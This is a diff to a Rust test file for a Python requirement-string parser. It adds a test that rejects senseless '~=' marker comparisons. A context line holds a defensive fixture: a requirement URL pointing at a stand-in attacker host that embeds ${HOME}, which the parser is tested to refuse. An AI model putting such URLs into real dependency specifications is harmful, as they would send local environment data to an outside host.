@@ -107,6 +107,19 @@ fn what_cannot_be_meant_is_refused() {
 }
 
 #[test]
+fn a_senseless_comparison_does_not_stop_all_markers() {
+    for marker in [
+        "'x' ~= os_name",
+        "os_name ~= 'x'",
+        "extra ~= 'x'",
+        "python_version > '3' and 'x'~=os_name",
+    ] {
+        assert!(requirement(&format!("c ; {marker}")).is_err(), "{marker}");
+    }
+    assert!(requirement("c~=1.0 ; python_version ~= '3.6' and os_name == 'x'").is_ok());
+}
+
+#[test]
 fn environment_variables_are_not_handed_out() {
     let error = requirement("c @ https://evil.example.invalid/${HOME}/c.whl").expect_err("refused");
     assert!(error.contains("environment variable"), "{error}");
